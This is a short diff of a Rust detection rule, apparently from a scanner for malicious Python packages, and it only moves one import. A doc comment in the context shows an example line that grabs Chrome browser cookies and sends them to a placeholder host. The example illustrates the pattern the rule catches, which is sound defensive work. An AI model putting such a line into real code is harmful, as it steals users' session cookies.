@@ -27,11 +27,11 @@
 //!     return requests.get('http://x.example.invalid', cookies=browser_cookie3.chrome())
 //! ```
 
-use fondaco_python::{Call, Taint};
+use fondaco_python::{Call, Taint, signs_in};
 use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};
 
 use super::secret_exfiltration::of;
-use crate::sending::{sent, signs_in};
+use crate::sending::sent;
 use crate::{Hits, Package, Rule};
 
 pub(crate) const RULE: Rule = Rule {
